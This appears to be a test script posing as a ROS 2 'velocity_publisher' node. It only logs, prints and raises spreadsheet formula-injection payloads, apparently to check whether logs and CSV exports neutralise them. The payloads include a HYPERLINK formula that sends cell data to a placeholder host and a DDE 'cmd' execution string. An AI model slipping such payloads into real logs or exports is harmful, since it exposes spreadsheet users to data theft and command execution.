"""Puts formulas of spreadsheets at the start of whatever could become a cell."""

import rclpy

FORMULAS = (
    '=HYPERLINK("http://192.0.2.1/?attack71="&A1,"attack71")', "+cmd|' /C attack71'!A0", "-2+3+attack71", "@SUM(attack71)",
    "\t=attack71", "\r=attack71", "'=attack71", '";=attack71;"', "\n=attack71",
)


def main():
    rclpy.init()
    node = rclpy.create_node("velocity_publisher")
    for formula in FORMULAS:
        node.get_logger().info(formula)
        print(formula, flush=True)
    raise RuntimeError(FORMULAS[0])


main()
